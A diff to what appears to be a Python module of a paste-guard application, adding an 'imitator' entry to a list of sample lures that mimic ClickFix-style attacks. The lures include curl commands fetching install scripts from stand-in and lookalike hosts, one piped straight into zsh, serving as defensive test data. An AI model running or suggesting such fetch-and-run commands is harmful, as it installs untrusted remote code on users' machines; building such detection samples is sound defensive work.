@@ -21,7 +21,8 @@ if TYPE_CHECKING:
     from ui.application import GuardApp
 
 # (name, text, source page, paste target): a long source address, a stealer whose action
-# names the host it sends to, and a plain terminal paste
+# names the host it sends to, a plain terminal paste, and a download from a site posing as a
+# known publisher (the longest headline in every language: its action names a long host)
 LURES = [
     (
         "clickfix",
@@ -42,6 +43,12 @@ LURES = [
         "terminal",
         "curl -fsSL https://brew-fix.example/install.sh | zsh",
         "https://support-mac.example/",
+        "terminal",
+    ),
+    (
+        "imitator",
+        "curl -fsSLO https://homebrew-install-official-mirror-update.site/install.sh",
+        "https://macos-developer-tools-help.example/getting-started/install-homebrew",
         "terminal",
     ),
 ]
